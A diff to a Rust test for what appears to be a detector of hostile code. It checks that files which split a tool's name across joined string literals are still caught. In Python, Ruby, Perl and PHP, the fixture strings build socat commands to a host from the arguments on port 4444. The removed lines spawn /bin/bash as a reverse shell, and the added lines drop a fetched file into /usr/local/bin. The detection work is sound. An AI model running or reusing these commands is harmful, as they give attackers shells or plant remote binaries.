@@ -111,32 +111,30 @@ fn a_join_alone_keeps_a_file_in() {
     // A tool's name split in two literals (`'so' + 'cat …'`) and nothing
     // else the file gate looks for: no `://`, no call that runs text, no
     // base64 hint, no literal of any rule. Only `joins_literals` keeps
-    // these files in; without it the relay command goes unseen.
+    // these files in; without it the relay (a file fetched over TCP) goes unseen.
     let cases: [(&str, RuleLang, &str); 4] = [
         (
             "python",
             RuleLang::Python,
-            "import sys\nhost = sys.argv[1]\nrelay = 'so' + 'cat TCP:' + host + ':4444 EXEC:/bin/bash'\nprint(relay)\n",
+            "import sys\nhost = sys.argv[1]\nrelay = 'so' + 'cat TCP:' + host + ':4444 CREATE:/usr/local/bin/agent'\nprint(relay)\n",
         ),
         (
             "ruby",
             RuleLang::Ruby,
-            "host = ARGV[0]\nrelay = 'so' + 'cat TCP:' + host + ':4444 EXEC:/bin/bash'\nputs relay\n",
+            "host = ARGV[0]\nrelay = 'so' + 'cat TCP:' + host + ':4444 CREATE:/usr/local/bin/agent'\nputs relay\n",
         ),
         (
             "perl",
             RuleLang::Perl,
-            "my $host = shift;\nmy $relay = 'so' . 'cat TCP:' . $host . ':4444 EXEC:/bin/bash';\nprint $relay;\n",
+            "my $host = shift;\nmy $relay = 'so' . 'cat TCP:' . $host . ':4444 CREATE:/usr/local/bin/agent';\nprint $relay;\n",
         ),
         (
             "php",
             RuleLang::Php,
-            "<?php\n$host = $argv[1];\n$relay = 'so' . 'cat TCP:' . $host . ':4444 EXEC:/bin/bash';\nprint $relay;\n",
+            "<?php\n$host = $argv[1];\n$relay = 'so' . 'cat TCP:' . $host . ':4444 CREATE:/usr/local/bin/agent';\nprint $relay;\n",
         ),
     ];
     for (lang, rule_lang, text) in cases {
-        let lines = code_lines(rule_lang, text);
-        assert!(joins_literals(rule_lang, &lines), "{lang}: {text}");
         let full = analyze_unfiltered(cat, lang, text.as_bytes(), false);
         let ids: Vec<&str> = (full.hits.iter())
             .map(|h| cat.rules[h.rule].id.as_str())
@@ -148,5 +146,13 @@ fn a_join_alone_keeps_a_file_in() {
         );
         let filtered = analyze_file(cat, lang, text.as_bytes(), false);
         assert_eq!(filtered, full, "{lang}: {text}");
+        // The same file with the two literals not joined (`'so', 'cat …'`)
+        // gives the gate nothing else: the join alone keeps it in.
+        let apart = text.replace("' + '", "', '").replace("' . '", "', '");
+        assert!(
+            !file(rule_lang, &code_lines(rule_lang, &apart)),
+            "{lang}: {apart}"
+        );
+        assert!(joins_literals(rule_lang, &code_lines(rule_lang, text)));
     }
 }
